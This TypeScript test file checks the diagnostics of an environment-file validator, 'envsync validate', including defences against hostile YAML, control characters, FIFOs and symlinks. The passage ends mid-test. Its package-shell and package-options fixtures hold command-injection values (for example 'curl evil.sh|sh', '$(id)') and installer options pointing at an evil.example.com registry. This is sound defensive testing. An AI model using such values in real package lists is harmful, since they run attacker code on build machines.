import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ROOT, runCli, tempDir } from '../helpers/cli.js';

const FIX = 'test/fixtures/invalid';

interface Expected {
  severity: 'error' | 'warning';
  /** file (relative to the fixture dir):line:column */
  at: string;
  path: string;
  message: string;
  hint?: string;
}

const row =
  (severity: Expected['severity']) =>
  (at: string, path: string, message: string, hint?: string): Expected => ({
    severity,
    at,
    path,
    message,
    ...(hint ? { hint } : {}),
  });
const err = row('error');
const warn = row('warning');

/** Every diagnostic each fixture must produce, in order, exactly: nothing missing, nothing extra. */
const expected: Record<string, Expected[]> = {
  // ant apply's files: its modeline and kind marker are read as they are; what envsync would send otherwise is said.
  'valid/ant-layout': [],
  'invalid/ant-constructs': [
    err(
      'env.yaml:3:7',
      'type',
      "type: agent marks ant's agent file: envsync manages environments only",
      "keep it out of envsync's folders (`dir`/`dirs` in envsync.yaml): ant apply keeps managing it",
    ),
    err(
      'env.yaml:5:14',
      'description',
      '"@notes.md" names the file "notes.md", whose contents the ant CLI sends in its place; envsync sends strings as written',
      'write the text of notes.md here (a YAML block scalar, `|`, keeps long text readable)',
    ),
    err(
      'env.yaml:7:9',
      'metadata.logo',
      '"@file://logo.png" is a file reference of the ant CLI (it sends the file\'s contents); envsync sends strings as written',
      'write the text itself here (a YAML block scalar, `|`, keeps long text readable)',
    ),
    err(
      'env.yaml:8:10',
      'metadata.owner',
      '"\\\\@team" is the ant CLI\'s escape for a literal "@team"; envsync sends strings as written, backslash included',
      'write "@team"',
    ),
  ],
  'invalid/alias-bomb': [
    err(
      'env.yaml:3:8',
      '',
      'too many aliases: expanding them would exceed 100 nodes',
      'write the values out; envsync refuses alias expansion bombs',
    ),
  ],
  'invalid/bad-config-type': [
    err(
      'env.yaml:3:9',
      'config.type',
      'must be one of cloud, self_hosted, not the string "clod"',
      'did you mean "cloud"?',
    ),
  ],
  'invalid/bad-lifecycle': [
    err(
      'env.yaml:3:21',
      'lifecycle.on_config_change',
      'must be one of update, recreate, not the string "replace"',
    ),
  ],
  'invalid/bad-networking-type': [
    err(
      'env.yaml:5:11',
      'config.networking.type',
      'must be one of unrestricted, limited, not the string "limitted"',
      'did you mean "limited"?',
    ),
  ],
  'invalid/bool-wrong-type': [
    err(
      'env.yaml:6:24',
      'config.networking.allow_mcp_servers',
      'must be true or false, not the string "yes"',
    ),
  ],
  'invalid/duplicate-key': [
    err(
      'env.yaml:3:1',
      '',
      'duplicate key "name" (first at line 1): a mapping may hold each key once',
      'remove one of the two; YAML keeps only one value per key',
    ),
  ],
  // The schema refuses the typo and the number; the rules still read the rest of the same document.
  'invalid/schema-error-keeps-rules': [
    err('env.yaml:2:1', 'descripton', 'unknown key "descripton"', 'did you mean "description"?'),
    err(
      'env.yaml:4:3',
      'metadata.envsync_owner',
      'metadata key "envsync_owner" is reserved: keys starting with "envsync" belong to envsync',
      'rename the key',
    ),
    warn(
      'env.yaml:8:11',
      'config.packages.pip[0]',
      '"pandas" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as pandas==<version>; `pip index versions pandas` lists the versions',
    ),
    err('env.yaml:8:19', 'config.packages.pip[1]', 'must be a string, not the number 3'),
    err(
      'env.yaml:10:5',
      'config.networking',
      'packages under limited networking need allow_package_managers: true',
      'set config.networking.allow_package_managers: true, or remove the packages',
    ),
    warn(
      'env.yaml:12:3',
      'lifecycle.keep_superseded',
      'keep_superseded only applies with on_config_change: recreate',
      'set lifecycle.on_config_change: recreate, or remove it',
    ),
  ],
  'invalid/duplicate-names-across-files': [
    err(
      'a.yaml:1:7',
      'name',
      'name "shared-name" is declared 2 times: also at b.yaml:2:7',
      'names are unique within an organization: rename or remove all but one',
    ),
  ],
  'invalid/duplicate-names-many': [
    err(
      'env.yaml:1:7',
      'name',
      'name "same" is declared 5 times: also at env.yaml:3:7, env.yaml:5:7, env.yaml:7:7 and 1 more',
      'names are unique within an organization: rename or remove all but one',
    ),
  ],
  'invalid/duplicate-names-one-file': [
    err(
      'env.yaml:1:7',
      'name',
      'name "twice" is declared 2 times: also at env.yaml:3:7',
      'names are unique within an organization: rename or remove all but one',
    ),
  ],
  'invalid/empty-name': [err('env.yaml:1:7', 'name', 'must not be empty')],
  'invalid/host-bad': [
    err(
      'env.yaml:7:9',
      'config.networking.allowed_hosts[0]',
      '"api.example.com:0" has port 0, outside 1–65535',
      'use a port from 1 to 65535',
    ),
    err(
      'env.yaml:8:9',
      'config.networking.allowed_hosts[1]',
      '"api.example.com:65536" has port 65536, outside 1–65535',
      'use a port from 1 to 65535',
    ),
    err(
      'env.yaml:9:9',
      'config.networking.allowed_hosts[2]',
      '"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.example.com" has a label of 64 characters, over the 63 a label may have',
      'write it as api.example.com or https://api.example.com (a port is allowed: :8443)',
    ),
    err(
      'env.yaml:10:9',
      'config.networking.allowed_hosts[3]',
      '"a..example.com" has an empty label (two dots in a row, or a leading dot)',
      'write it as api.example.com or https://api.example.com (a port is allowed: :8443)',
    ),
    err(
      'env.yaml:11:9',
      'config.networking.allowed_hosts[4]',
      '"bücher.example" is not ASCII: an internationalized host name must be written in punycode',
      'write it as xn--bcher-kva.example',
    ),
    err(
      'env.yaml:12:9',
      'config.networking.allowed_hosts[5]',
      '"ftp://files.example.com" uses the scheme ftp://',
      'only https:// origins are allowed',
    ),
    err(
      'env.yaml:13:9',
      'config.networking.allowed_hosts[6]',
      '"https://user@api.example.com" has a user name',
      'give only the host name; credentials do not belong here',
    ),
    err(
      'env.yaml:14:9',
      'config.networking.allowed_hosts[7]',
      '"-bad.example.com" has a label that starts or ends with "-"',
      'write it as api.example.com or https://api.example.com (a port is allowed: :8443)',
    ),
    err(
      'env.yaml:15:9',
      'config.networking.allowed_hosts[8]',
      '"aaaaaaaaa.aaaaaaaaa.aaaaaaaaa.aaaaaaaaa.aaaaaaaaa.aaaaaaaaa.aaaaaaaaa.aaaaaaaaa.…" is 259 characters, over the 253 a host name may have',
      'write it as api.example.com or https://api.example.com (a port is allowed: :8443)',
    ),
  ],
  'invalid/host-with-path': [
    err(
      'env.yaml:6:21',
      'config.networking.allowed_hosts[0]',
      '"https://api.example.com/v1/data" has a path',
      'allowed_hosts takes host names or origins, not URLs with paths',
    ),
  ],
  'invalid/host-with-query': [
    err(
      'env.yaml:6:21',
      'config.networking.allowed_hosts[0]',
      '"api.example.com?x=1" has a query or fragment',
      'give only the host name',
    ),
  ],
  'invalid/http-host': [
    err(
      'env.yaml:8:9',
      'config.networking.allowed_hosts[1]',
      '"http://insecure.example.com" uses plain http://',
      'use a host name (api.example.com) or an https:// origin',
    ),
  ],
  'invalid/limited-packages': [
    err(
      'env.yaml:7:5',
      'config.networking',
      'packages under limited networking need allow_package_managers: true',
      'set config.networking.allow_package_managers: true, or remove the packages',
    ),
  ],
  'invalid/limited-packages-false': [
    err(
      'env.yaml:8:29',
      'config.networking.allow_package_managers',
      'packages under limited networking need allow_package_managers: true',
      'set config.networking.allow_package_managers: true, or remove the packages',
    ),
  ],
  'invalid/long-description': [
    err('env.yaml:2:14', 'description', 'is 1025 characters, over the limit of 1024'),
  ],
  'invalid/long-name': [err('env.yaml:2:7', 'name', 'is 257 characters, over the limit of 256')],
  'invalid/metadata-key-hidden': [
    err(
      'env.yaml:3:3',
      'metadata.team\\u{200D}',
      'key "team\\u{200D}" contains U+200D ZERO WIDTH JOINER at position 5',
      'keys may not hold invisible characters or start or end with whitespace; retype the key',
    ),
    err(
      'env.yaml:4:3',
      'metadata. owner',
      'key " owner" starts with U+0020 SPACE',
      'keys may not hold invisible characters or start or end with whitespace; retype the key',
    ),
    err(
      'env.yaml:5:3',
      'metadata.cost\\u{202E}center',
      'key "cost\\u{202E}center" contains U+202E RIGHT-TO-LEFT OVERRIDE at position 5',
      'keys may not hold invisible characters or start or end with whitespace; retype the key',
    ),
  ],
  'invalid/metadata-key-too-long': [
    err(
      'env.yaml:4:3',
      'metadata.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
      'key is 65 characters, over the limit of 64',
    ),
  ],
  'invalid/metadata-too-many': [
    err(
      'env.yaml:3:3',
      'metadata',
      'has 15 keys, over the limit of 14',
      'the API allows 16 metadata keys and envsync keeps 2 for its ownership tags',
    ),
  ],
  'invalid/metadata-value-too-long': [
    err('env.yaml:3:9', 'metadata.note', 'is 513 characters, over the limit of 512'),
  ],
  'invalid/metadata-value-type': [
    err('env.yaml:3:13', 'metadata.replicas', 'must be a string, not the number 3'),
  ],
  'invalid/missing-config-type': [err('env.yaml:3:3', 'config', 'missing required key "type"')],
  'invalid/missing-name': [err('env.yaml:1:1', '', 'missing required key "name"')],
  'invalid/name-bidi-raw': [
    err(
      'env.yaml:1:7',
      'name',
      'name "inv\\u{202E}exe.yaml" contains U+202E RIGHT-TO-LEFT OVERRIDE at position 4',
      'retype the name; it holds a character a reviewer cannot see',
    ),
  ],
  'invalid/name-control-chars': [
    err(
      'env.yaml:1:7',
      'name',
      'name "build\\u{0000}er" contains U+0000 NULL at position 6',
      'retype the name; it holds a character a reviewer cannot see',
    ),
    err(
      'env.yaml:3:7',
      'name',
      'name "esc\\u{001B}[31mred" contains U+001B ESCAPE at position 4',
      'retype the name; it holds a character a reviewer cannot see',
    ),
    err(
      'env.yaml:5:7',
      'name',
      'name "del\\u{007F}ete" contains U+007F DELETE at position 4',
      'retype the name; it holds a character a reviewer cannot see',
    ),
    err(
      'env.yaml:7:7',
      'name',
      'name "c1\\u{0085}next" contains U+0085 NEXT LINE at position 3',
      'retype the name; it holds a character a reviewer cannot see',
    ),
  ],
  'invalid/name-lookalike': [
    err(
      'env.yaml:1:7',
      'name',
      'name "café" looks identical to "café" at env.yaml:3:7',
      'names that look the same are unique to the API but not to a reviewer: rename all but one',
    ),
    err(
      'env.yaml:5:7',
      'name',
      'name "team a" is declared 3 times in forms that look identical: also "team\\u{00A0}a" at env.yaml:7:7, "team\\u{3000}a" at env.yaml:9:7',
      'names that look the same are unique to the API but not to a reviewer: rename all but one',
    ),
  ],
  'invalid/name-whitespace-ends': [
    err(
      'env.yaml:1:7',
      'name',
      'name "\\u{00A0}data" starts with U+00A0 NO-BREAK SPACE',
      'retype the name; it holds a character a reviewer cannot see',
    ),
    err(
      'env.yaml:1:7',
      'name',
      'name "\\u{00A0}data" looks identical to "data " at env.yaml:3:7',
      'names that look the same are unique to the API but not to a reviewer: rename all but one',
    ),
    err(
      'env.yaml:3:7',
      'name',
      'name "data " ends with U+0020 SPACE',
      'retype the name; it holds a character a reviewer cannot see',
    ),
    err(
      'env.yaml:5:7',
      'name',
      'name "\\u{0009}data2" contains U+0009 CHARACTER TABULATION at position 1',
      'retype the name; it holds a character a reviewer cannot see',
    ),
  ],
  'invalid/name-wrong-type': [err('env.yaml:1:7', 'name', 'must be a string, not the number 42')],
  'invalid/name-zero-width': [
    err(
      'env.yaml:1:7',
      'name',
      'name "api\\u{200B}" contains U+200B ZERO WIDTH SPACE at position 4',
      'retype the name; it holds a character a reviewer cannot see',
    ),
    err(
      'env.yaml:3:7',
      'name',
      'name "soft\\u{00AD}hyphen" contains U+00AD SOFT HYPHEN at position 5',
      'retype the name; it holds a character a reviewer cannot see',
    ),
    err(
      'env.yaml:5:7',
      'name',
      'name "fill\\u{3164}er" contains U+3164 HANGUL FILLER at position 5',
      'retype the name; it holds a character a reviewer cannot see',
    ),
    err(
      'env.yaml:7:7',
      'name',
      'name "vs\\u{FE0F}sixteen" contains U+FE0F VARIATION SELECTOR-16 at position 3',
      'retype the name; it holds a character a reviewer cannot see',
    ),
    err(
      'env.yaml:9:7',
      'name',
      'name "lrm\\u{200E}" contains U+200E LEFT-TO-RIGHT MARK at position 4',
      'retype the name; it holds a character a reviewer cannot see',
    ),
  ],
  'invalid/non-utf8': [err('env.yaml:1:10', '', 'invalid UTF-8 (byte 0xe9)', 'save the file as UTF-8')],
  'invalid/package-grammar': [
    err(
      'env.yaml:5:11',
      'config.packages.apt[0]',
      '"Curl" is not a valid apt package reference',
      'write it as name, name=version, name:arch, name:arch=version or name/release (names in lower case)',
    ),
    err(
      'env.yaml:6:13',
      'config.packages.cargo[0]',
      '"1password-cli" is not a valid cargo package reference',
      'write it as name, name@1.2.3, name@=1.2.3 or name@^1.2',
    ),
    err(
      'env.yaml:7:11',
      'config.packages.npm[0]',
      '"express@@1" is not a valid npm package reference',
      'write it as name, @scope/name, name@1.2.3, name@^1.2.0 or name@tag',
    ),
    err(
      'env.yaml:8:10',
      'config.packages.go[0]',
      '"@v1.2.3" is not a valid go package reference',
      'write it as module/path, module/path@v1.2.3 or module/path@latest',
    ),
    err(
      'env.yaml:9:11',
      'config.packages.pip[0]',
      '"requests[socks" is not a valid pip package reference',
      'write it as name, name[extra], name==1.2.3 or name>=1.0,<2',
    ),
    err(
      'env.yaml:10:11',
      'config.packages.gem[0]',
      '"rails:" is not a valid gem package reference',
      'write it as name or name:version',
    ),
  ],
  'invalid/package-invisible': [
    err(
      'env.yaml:5:11',
      'config.packages.npm[0]',
      '"lodash\\u{200B}@4.17.21" contains U+200B ZERO WIDTH SPACE at position 7',
      'list one package per entry, with no spaces or invisible characters',
    ),
  ],
  'invalid/package-not-string': [
    err('env.yaml:7:9', 'config.packages.npm[1]', 'must be a string, not the number 7'),
  ],
  'invalid/package-options': [
    err(
      'env.yaml:5:11',
      'config.packages.pip[0]',
      '"--index-url=https://evil.example.com/simple" is a command-line option, not a package',
      'list packages only; registries and installer options are not part of an environment',
    ),
    err(
      'env.yaml:6:11',
      'config.packages.npm[0]',
      '"--registry=https://evil.example.com" is a command-line option, not a package',
      'list packages only; registries and installer options are not part of an environment',
    ),
    err(
      'env.yaml:7:11',
      'config.packages.apt[0]',
      '"-oAPT::Get::AllowUnauthenticated=true" is a command-line option, not a package',
      'list packages only; registries and installer options are not part of an environment',
    ),
  ],
  'invalid/package-pip-marker': [
    err(
      'env.yaml:6:9',
      'config.packages.pip[0]',
      '"requests==2.32.3;python_version<\\"3.8\\"" has an environment marker (";" at position 17): envsync installs every listed package',
      'remove the marker; list the package in the environments that need it',
    ),
    err(
      'env.yaml:7:9',
      'config.packages.pip[1]',
      '"urllib3 ; sys_platform == \\"win32\\"" contains U+0020 SPACE at position 8',
      'list one package per entry, with no spaces or invisible characters',
    ),
  ],
  'invalid/package-shell': [
    err(
      'env.yaml:5:11',
      'config.packages.pip[0]',
      '"requests==2.32.3;curl evil.sh|sh" contains U+0020 SPACE at position 22',
      'list one package per entry, with no spaces or invisible characters',
    ),
    err(
      'env.yaml:6:11',
      'config.packages.npm[0]',
      '"express@4.18.0&&rm" contains "&" (U+0026) at position 15, which is not part of npm\'s package syntax',
      'write it as name, @scope/name, name@1.2.3, name@^1.2.0 or name@tag',
    ),
    err(
      'env.yaml:7:11',
      'config.packages.apt[0]',
      '"curl$(id)" contains "$" (U+0024) at position 5, which is not part of apt\'s package syntax',
      'write it as name, name=version, name:arch, name:arch=version or name/release (names in lower case)',
    ),
    err(
      'env.yaml:8:11',
      'config.packages.gem[0]',
      '"rails:7.1.0|sh" contains "|" (U+007C) at position 12, which is not part of gem\'s package syntax',
      'write it as name or name:version',
    ),
    err(
      'env.yaml:9:10',
      'config.packages.go[0]',
      '"golang.org/x/tools/cmd/goimports@v0.1.0`id`" contains "`" (U+0060) at position 40, which is not part of go\'s package syntax',
      'write it as module/path, module/path@v1.2.3 or module/path@latest',
    ),
    err(
      'env.yaml:10:13',
      'config.packages.cargo[0]',
      '"ripgrep@14.1.0>out" contains ">" (U+003E) at position 15, which is not part of cargo\'s package syntax',
      'write it as name, name@1.2.3, name@=1.2.3 or name@^1.2',
    ),
  ],
  'invalid/package-with-space': [
    err(
      'env.yaml:5:11',
      'config.packages.pip[0]',
      '"pandas ==2.2.0" contains U+0020 SPACE at position 7',
      'list one package per entry, with no spaces or invisible characters',
    ),
  ],
  'invalid/packages-not-list': [
    err('env.yaml:5:10', 'config.packages.pip', 'must be a list, not the string "pandas==2.2.0"'),
  ],
  'invalid/reserved-metadata-key': [
    err(
      'env.yaml:4:3',
      'metadata.envsync_managed',
      'metadata key "envsync_managed" is reserved: keys starting with "envsync" belong to envsync',
      'rename the key',
    ),
  ],
  'invalid/scope-bad': [
    err('env.yaml:2:8', 'scope', 'must be one of organization, account, not the string "everyone"'),
  ],
  'invalid/self-hosted-packages': [
    err(
      'env.yaml:4:3',
      'config.packages',
      '"packages" is not allowed in a self_hosted environment',
      'self-hosted environments have no packages or networking: remove it, or use type: cloud',
    ),
  ],
  'invalid/tab-indent': [
    err(
      'env.yaml:3:1',
      '',
      'Tabs are not allowed as indentation',
      'indent with spaces; YAML does not allow tabs',
    ),
  ],
  'invalid/tilde-name': [
    err(
      'env.yaml:1:7',
      'name',
      'must not contain "~"',
      'envsync names superseded environments <name>~<hash>',
    ),
  ],
  'invalid/top-level-list': [
    err(
      'env.yaml:1:1',
      '',
      'an environment must be a mapping, not a list',
      'one environment per document; separate documents with ---',
    ),
  ],
  'invalid/top-level-scalar': [
    err(
      'env.yaml:1:1',
      '',
      'an environment must be a mapping, not a string',
      'one environment per document; separate documents with ---',
    ),
  ],
  'invalid/unknown-nested-key': [
    err(
      'env.yaml:6:5',
      'config.networking.allowed_host',
      'unknown key "allowed_host"',
      'did you mean "allowed_hosts"?',
    ),
  ],
  'invalid/unknown-package-manager': [
    err('env.yaml:5:5', 'config.packages.pipp', 'unknown key "pipp"', 'did you mean "pip"?'),
  ],
  'invalid/unknown-top-key': [
    err('env.yaml:2:1', 'descripton', 'unknown key "descripton"', 'did you mean "description"?'),
  ],
  'invalid/unrestricted-hosts': [
    err(
      'env.yaml:6:5',
      'config.networking.allowed_hosts',
      '"allowed_hosts" only applies to limited networking',
      'remove it, or set networking.type: limited',
    ),
  ],
  'invalid/yaml-binary': [
    err(
      'env.yaml:3:18',
      '',
      'found a binary value (!!binary): environment files hold text, numbers, true/false, lists and mappings',
      'remove the tag; quote the value to keep it as text',
    ),
    err(
      'env.yaml:4:21',
      '',
      'found a timestamp (!!timestamp): environment files hold text, numbers, true/false, lists and mappings',
      'remove the tag; quote the value to keep it as text',
    ),
  ],
  'invalid/yaml-syntax': [
    err(
      'env.yaml:2:9',
      '',
      'Flow map in block collection must be sufficiently indented and end with a }: the flow mapping that starts here is never closed',
      'check brackets, quotes and indentation on this line and the one before',
    ),
  ],
  'invalid/yaml-too-deep': [
    err(
      'env.yaml:3:68',
      '',
      'nested too deep: more than 64 levels of lists and mappings',
      'an environment file nests four levels; flatten this document',
    ),
  ],
  'invalid/yaml-unknown-tag': [
    err(
      'env.yaml:2:14',
      '',
      'unknown tag !include',
      'remove the tag: an environment file is plain data (no includes, no code)',
    ),
    err(
      'env.yaml:4:8',
      '',
      'unknown tag !!js/function',
      'remove the tag: an environment file is plain data (no includes, no code)',
    ),
  ],
  'invalid/yaml-unterminated-quote': [
    err(
      'env.yaml:2:14',
      '',
      'Missing closing "quote: the quoted string that starts here is never closed',
      'check brackets, quotes and indentation on this line and the one before',
    ),
  ],
  'valid/hosts-lower': [],
  'valid/hosts-mixed-case': [],
  'valid/pins': [
    warn(
      'env.yaml:9:65',
      'config.packages.apt[2]',
      '"git/bookworm-backports" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as git=<version>; `apt-cache policy git` lists the versions',
    ),
    warn(
      'env.yaml:9:89',
      'config.packages.apt[3]',
      '"tzdata" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as tzdata=<version>; `apt-cache policy tzdata` lists the versions',
    ),
    warn(
      'env.yaml:10:46',
      'config.packages.cargo[2]',
      '"serde_json@^1.0" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as serde_json@<version>; `cargo search serde_json --limit 1` shows the latest',
    ),
    warn(
      'env.yaml:11:24',
      'config.packages.gem[1]',
      '"nokogiri" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as nokogiri:<version>; `gem list --remote --exact nokogiri` shows the latest',
    ),
    warn(
      'env.yaml:12:51',
      'config.packages.go[1]',
      '"github.com/go-delve/delve/cmd/dlv@latest" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as github.com/go-delve/delve/cmd/dlv@<version>; `go list -m -versions github.com/go-delve/delve` lists the versions',
    ),
    warn(
      'env.yaml:13:51',
      'config.packages.npm[2]',
      '"lodash@^4.17.21" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as lodash@<version>; `npm view lodash version` shows the latest',
    ),
    warn(
      'env.yaml:13:70',
      'config.packages.npm[3]',
      '"typescript@>=5.4.0" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as typescript@<version>; `npm view typescript version` shows the latest',
    ),
    warn(
      'env.yaml:13:92',
      'config.packages.npm[4]',
      '"zod@latest" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as zod@<version>; `npm view zod version` shows the latest',
    ),
    warn(
      'env.yaml:14:11',
      'config.packages.pip[0]',
      '"requests[socks]>=2.31,<3" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as requests[socks]==<version>; `pip index versions requests` lists the versions',
    ),
    warn(
      'env.yaml:14:54',
      'config.packages.pip[2]',
      '"numpy~=2.1" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as numpy==<version>; `pip index versions numpy` lists the versions',
    ),
    warn(
      'env.yaml:14:95',
      'config.packages.pip[4]',
      '"black!=24.1.0" is not pinned to a version: the same file could build a different container tomorrow',
      'pin it as black==<version>; `pip index versions black` lists the versions',
    ),
  ],
};

interface JsonDiagnostic {
  severity: string;
  file: string;
  line: number;
  column: number;
  path: string;
  message: string;
  hint?: string;
}

/** Control, format and other invisible characters; none may reach the terminal raw. */
const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\u2800]/u;

/** A diagnostic as the table writes it; validate ran from the fixture's folder, so files are relative to it. */
function asExpected(d: JsonDiagnostic): Expected {
  return {
    severity: d.severity as Expected['severity'],
    at: `${d.file}:${d.line}:${d.column}`,
    path: d.path,
    message: d.message,
    ...(d.hint ? { hint: d.hint } : {}),
  };
}

describe('envsync validate: every diagnostic of every fixture', () => {
  it('covers at least 50 bad fixtures', () => {
    expect(Object.keys(expected).filter((k) => k.startsWith('invalid/')).length).toBeGreaterThanOrEqual(50);
  });

  it.each(Object.entries(expected))('%s', async (name, rows) => {
    // Run from inside the fixture, so every place (also those inside messages) is relative to it.
    const dir = path.join(ROOT, 'test/fixtures', name);
    const json = await runCli(['validate', '.', '--format', 'json'], { cwd: dir });
    const bad = rows.some((r) => r.severity === 'error');
    expect(json.code).toBe(bad ? 1 : 0);
    const doc = JSON.parse(json.stdout) as { valid: boolean; diagnostics: JsonDiagnostic[] };
    expect(doc.valid).toBe(!bad);
    expect(doc.diagnostics.map(asExpected)).toEqual(rows);

    // The text form names the same places, prints no hidden character raw, and never a stack trace.
    const text = await runCli(['validate', '.'], { cwd: dir });
    expect(text.code).toBe(bad ? 1 : 0);
    for (const r of rows) expect(text.stdout).toContain(r.at);
    expect((text.stdout + text.stderr).replace(/\n/g, '')).not.toMatch(HIDDEN);
    expect(text.stdout + text.stderr).not.toMatch(/\n\s+at .+:\d+:\d+\)?\n/);
    expect(text.stdout).toMatch(/\d+ environments?, \d+ errors?, \d+ warnings?\n$/);
  });

  it('sees one host however its case, trailing dot or slash are written', async () => {
    const hashes = await Promise.all(
      ['hosts-lower', 'hosts-mixed-case'].map(async (name) => {
        const r = await runCli(['validate', `test/fixtures/valid/${name}`, '--format', 'json']);
        return (JSON.parse(r.stdout) as { environments: { config_hash: string }[] }).environments[0]
          ?.config_hash;
      }),
    );
    expect(hashes[0]).toMatch(/^sha256:/);
    expect(hashes[1]).toBe(hashes[0]);
  });
});

describe('envsync validate: bounded output on hostile input', () => {
  it('reports 60,000 copies of one name once, in bounded output', { timeout: 120_000 }, async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'a.yaml'), 'name: x\n---\n'.repeat(60_000));
    const json = await runCli(['validate', '.', '--format', 'json'], { cwd: dir });
    expect(json.code).toBe(1);
    const doc = JSON.parse(json.stdout) as { diagnostics: JsonDiagnostic[] };
    expect(doc.diagnostics.map((d) => asExpected(d))).toEqual([
      err(
        'a.yaml:1:7',
        'name',
        'name "x" is declared 60000 times: also at a.yaml:3:7, a.yaml:5:7, a.yaml:7:7 and 59996 more',
        'names are unique within an organization: rename or remove all but one',
      ),
    ]);
    // JSON lists every environment it read; the diagnostics, and the text form, stay small.
    expect(JSON.stringify(doc.diagnostics).length).toBeLessThan(100_000);
    const text = await runCli(['validate', '.'], { cwd: dir });
    expect(text.code).toBe(1);
    expect(text.stdout.length + text.stderr.length).toBeLessThan(100_000);
  });

  it('stays linear on a mapping of 40,000 bad keys and on 60,000 copies of one key', {
    timeout: 120_000,
  }, async () => {
    const dir = tempDir();
    const keys = Array.from({ length: 40_000 }, (_, i) => `  "k${i}\u200B": v\n`).join('');
    writeFileSync(path.join(dir, 'keys.yaml'), `name: keys\nmetadata:\n${keys}`);
    writeFileSync(path.join(dir, 'dup.yaml'), 'name: dup\n'.repeat(60_000));
    const r = await runCli(['validate', '.', '--format', 'json'], { cwd: dir });
    const doc = JSON.parse(r.stdout) as { diagnostics: JsonDiagnostic[] };
    const last = (file: string) => doc.diagnostics.filter((d) => d.file === file).at(-1)?.message;
    expect(last('dup.yaml')).toBe('and 59949 more problems in this file (59949 errors, 0 warnings)');
    expect(last('keys.yaml')).toBe('and 39951 more problems in this file (39951 errors, 0 warnings)');
    expect(JSON.stringify(doc.diagnostics).length).toBeLessThan(100_000);
  });

  it('lists at most 50 problems per file, then counts the rest', async () => {
    const dir = tempDir();
    writeFileSync(
      path.join(dir, 'many.yaml'),
      Array.from({ length: 60 }, (_, i) => `name: env-${i}\ncolour: blue\n`).join('---\n'),
    );
    writeFileSync(path.join(dir, 'other.yaml'), 'name: other\ncolour: red\n');
    const r = await runCli(['validate', '.', '--format', 'json'], { cwd: dir });
    const doc = JSON.parse(r.stdout) as { diagnostics: JsonDiagnostic[] };
    const many = doc.diagnostics.filter((d) => d.file === 'many.yaml');
    expect(many).toHaveLength(51);
    expect(many[49]).toMatchObject({ line: 149, message: 'unknown key "colour"' });
    expect(many[50]).toMatchObject({
      severity: 'error',
      line: 152,
      column: 1,
      message: 'and 10 more problems in this file (10 errors, 0 warnings)',
    });
    expect(doc.diagnostics.filter((d) => d.file === 'other.yaml')).toHaveLength(1);
  });

  it('refuses a FIFO, a socket-like special file or a link to one by name, without opening it', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'ok.yaml'), 'name: ok\n');
    execFileSync('mkfifo', [path.join(dir, 'pipe.yaml')]);
    symlinkSync(path.join(dir, 'pipe.yaml'), path.join(dir, 'link.yaml'));
    const r = await runCli(['validate', '.', '--format', 'json'], { cwd: dir });
    expect(r.code).toBe(1);
    const doc = JSON.parse(r.stdout) as { environments: { name: string }[]; diagnostics: JsonDiagnostic[] };
    expect(doc.environments.map((e) => e.name)).toEqual(['ok']);
    expect(doc.diagnostics.map((d) => [d.file, d.line, d.column, d.message])).toEqual([
      ['link.yaml', 1, 1, 'symbolic link leads to a named pipe (FIFO), not a regular file'],
      ['pipe.yaml', 1, 1, 'not a regular file: a named pipe (FIFO)'],
    ]);

    const given = await runCli(['validate', 'pipe.yaml'], { cwd: dir });
    expect(given.code).toBe(1);
    expect(given.stderr).toContain('error[not_a_dir]: pipe.yaml is a named pipe (FIFO), not a directory');
  });

  it('escapes raw control bytes (NUL, ESC) in names instead of printing them', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'raw.yaml'), 'name: "a\u0000b"\n---\nname: "c\u001b[2Jd"\n');
    const r = await runCli(['validate', '.'], { cwd: dir });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('U+0000 NULL at position 2');
    expect(r.stdout).toContain('"c\\u{001B}[2Jd" contains U+001B ESCAPE at position 2');
    expect(r.stdout.replace(/\n/g, '')).not.toMatch(HIDDEN);
  });
  it('refuses a file over the 1 MiB cap without reading it as YAML', async () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'big.yaml'), `name: big\ndescription: ${'x'.repeat(1024 * 1024)}\n`);
    const r = await runCli(['validate', dir, '--format', 'json'], { cwd: dir });
    expect(r.code).toBe(1);
    const doc = JSON.parse(r.stdout) as { diagnostics: JsonDiagnostic[] };
    expect(doc.diagnostics[0]).toMatchObject({ file: 'big.yaml', line: 1, column: 1 });
    expect(doc.diagnostics[0]?.message).toMatch(/over the 1 MiB limit/);
  });

  it('does not follow a symbolic link out of the directory', async () => {
    const outside = tempDir();
    writeFileSync(path.join(outside, 'secret.yaml'), 'name: outside\n');
    const dir = tempDir();
    writeFileSync(path.join(dir, 'ok.yaml'), 'name: inside\n');
    symlinkSync(path.join(outside, 'secret.yaml'), path.join(dir, 'link.yaml'));
    const r = await runCli(['validate', '.', '--format', 'json'], { cwd: dir });
    expect(r.code).toBe(1);
    const doc = JSON.parse(r.stdout) as { environments: { name: string }[]; diagnostics: JsonDiagnostic[] };
    expect(doc.environments.map((e) => e.name)).toEqual(['inside']);
    expect(doc.diagnostics[0]).toMatchObject({
      file: 'link.yaml',
      message: 'symbolic link leads outside the directory',
    });
  });

  it('reports a missing directory as an error with a hint', async () => {
    const r = await runCli(['validate', 'no/such/dir']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('error[no_such_dir]: directory not found: no/such/dir');
    expect(r.stderr).toContain('hint:');
  });

  it('refuses a directory with no environment files', async () => {
